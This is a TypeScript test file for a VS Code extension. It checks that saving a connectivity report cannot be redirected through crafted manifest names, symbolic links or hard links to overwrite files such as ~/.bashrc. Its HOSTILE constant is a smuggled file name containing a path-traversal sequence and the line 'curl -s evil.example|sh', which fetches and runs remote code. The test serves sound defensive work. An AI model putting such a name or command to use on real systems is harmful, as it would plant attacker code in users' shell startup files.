// Save Connectivity Report against a hostile manifest name and hostile files where the report goes: the
// attack of issue 18 item 1 first (a name that made the report land in ~/.bashrc), then links and overwrites.
import * as assert from 'assert';
import type * as sinon from 'sinon';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import type { ProbeResult } from '../../src/core/connectivity';
import { ReportActions } from '../../src/extension/connectivity/reportActions';
import { ResultStore } from '../../src/extension/connectivity/resultStore';
import { localKind, writeLocalFile } from '../../src/extension/localFiles';
import { fakeHost } from './support/fakeExtensionHost';

// A legal file name on Linux (no '/'), as committed to a repository.
const HOSTILE = '..%2F.bashrc#\ncurl -s evil.example|sh\n#.atpproxy.json';
const RESULT: ProbeResult = {
  host: 'contososensorapi.atp.azure.com',
  port: 443,
  status: 'ok',
  ms: 12,
  via: 'DIRECT',
  issuer: 'Microsoft',
  detail: 'ok',
  kind: 'sensorApi',
};

function withReport(name: string) {
  // VS Code's spelling of the manifest's URI: every character outside the unreserved set percent-encoded.
  const uri = `file:///home/admin/repo/${encodeURIComponent(name)}`;
  const host = fakeHost({ [uri]: '{}' });
  const results = new ResultStore();
  results.start(uri, [RESULT.host]);
  results.finish(uri, { report: { results: [RESULT], cancelled: false, ms: 12 }, name, at: new Date('2026-11-30T12:00:00Z') });
  return { uri, host, reports: new ReportActions({ results, ui: host.ui, files: host.files }) };
}

describe('extension: Save Connectivity Report writes only next to the manifest', () => {
  it('the attack: the old target, a string Uri.parse-d, was ~/.bashrc', () => {
    const { uri } = withReport(HOSTILE);
    // What reportActions.ts did before: folder of the URI + raw name, parsed again. The # starts the fragment, and
    // Uri.parse percent-decodes the path (as decodeURIComponent does), so %2F became a separator: /home/admin/.bashrc.
    // The host test (security.test.ts) shows the same with VS Code's own Uri.
    const old = new URL(`${uri.slice(0, uri.lastIndexOf('/') + 1)}${HOSTILE.replace(/\.atpproxy\.json$/, '')}.connectivity.md`);
    assert.strictEqual(path.posix.normalize(decodeURIComponent(old.pathname)), '/home/admin/.bashrc');
  });

  it('refuses a manifest name with %, #, ? or a control character, and writes nothing', async () => {
    for (const name of [
      HOSTILE,
      'a%2Fb.atpproxy.json',
      'a#b.atpproxy.json',
      'a?b.atpproxy.json',
      'a\u0007b.atpproxy.json',
      'a\u2028b.atpproxy.json',
      'a\\..\\b.atpproxy.json',
    ]) {
      const { uri, host, reports } = withReport(name);
      await assert.rejects(
        reports.save(uri),
        (e: Error) => e.name === 'UserError' && /Cannot save the report of this manifest: the name contains/.test(e.message),
        name,
      );
      assert.deepStrictEqual([...host.files.map.keys()], [uri], `${JSON.stringify(name)} wrote a file`);
    }
  });

  it('writes a plain name next to the manifest, created new', async () => {
    const { uri, host, reports } = withReport('contoso.atpproxy.json');
    const target = await reports.save(uri);
    assert.strictEqual(target, 'file:///home/admin/repo/contoso.connectivity.md');
    assert.match(String(host.files.map.get(target)), /^# Connectivity test of contoso\\\.atpproxy\\\.json/);
    assert.strictEqual((host.ui.ask as sinon.SinonSpy).callCount, 0);
  });

  it('refuses a symbolic link where the report goes', async () => {
    const { uri, host, reports } = withReport('contoso.atpproxy.json');
    host.files.links.add('file:///home/admin/repo/contoso.connectivity.md');
    await assert.rejects(reports.save(uri), /contoso\.connectivity\.md next to the manifest is a symbolic link/);
    assert.strictEqual(host.files.map.has('file:///home/admin/repo/contoso.connectivity.md'), false);
  });

  it('asks (modal) before replacing an existing report, and keeps it unless told to replace', async () => {
    const { uri, host, reports } = withReport('contoso.atpproxy.json');
    const target = 'file:///home/admin/repo/contoso.connectivity.md';
    host.files.map.set(target, 'reviewed notes');
    host.answers.push(undefined);
    await assert.rejects(reports.save(uri), { name: 'CancelledError' });
    assert.strictEqual(host.files.map.get(target), 'reviewed notes');
    const ask = host.ui.ask as sinon.SinonSpy;
    assert.deepStrictEqual(ask.lastCall.args.slice(0, 3), ['warning', 'contoso.connectivity.md already exists. Replace it with this report?', { modal: true }]);
    host.answers.push('Replace');
    await reports.save(uri);
    assert.match(String(host.files.map.get(target)), /^# Connectivity test/);
  });
});

describe('extension: local files are written without following links', () => {
  let dir: string;
  let outside: string;
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'atp-localfiles-'));
    outside = path.join(dir, 'bashrc');
    fs.writeFileSync(outside, 'original\n');
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
  const data = new TextEncoder().encode('report\n');

  it('create fails on an existing file, a symbolic link and a dangling one; the target is untouched', async () => {
    const link = path.join(dir, 'r.md');
    fs.symlinkSync(outside, link);
    assert.strictEqual(await localKind(link), 'symlink');
    await assert.rejects(writeLocalFile(link, data, 'create'), { code: 'EEXIST' });
    const dangling = path.join(dir, 'd.md');
    fs.symlinkSync(path.join(dir, 'not-yet'), dangling);
    await assert.rejects(writeLocalFile(dangling, data, 'create'), { code: 'EEXIST' });
    assert.strictEqual(fs.existsSync(path.join(dir, 'not-yet')), false);
    await assert.rejects(writeLocalFile(outside, data, 'create'), { code: 'EEXIST' });
    assert.strictEqual(fs.readFileSync(outside, 'utf8'), 'original\n');
  });

  it('replace refuses a symbolic link and a hard link, and replaces a plain file', async () => {
    const link = path.join(dir, 'r.md');
    fs.symlinkSync(outside, link);
    await assert.rejects(writeLocalFile(link, data, 'replace'), /not a regular file/);
    const hard = path.join(dir, 'h.md');
    fs.linkSync(outside, hard);
    await assert.rejects(writeLocalFile(hard, data, 'replace'), /hard link/);
    assert.strictEqual(fs.readFileSync(outside, 'utf8'), 'original\n');
    const plain = path.join(dir, 'p.md');
    fs.writeFileSync(plain, 'a much longer previous text\n');
    await writeLocalFile(plain, data, 'replace');
    assert.strictEqual(fs.readFileSync(plain, 'utf8'), 'report\n');
    assert.strictEqual(await localKind(plain), 'file');
    assert.strictEqual(await localKind(path.join(dir, 'none')), undefined);
  });
});
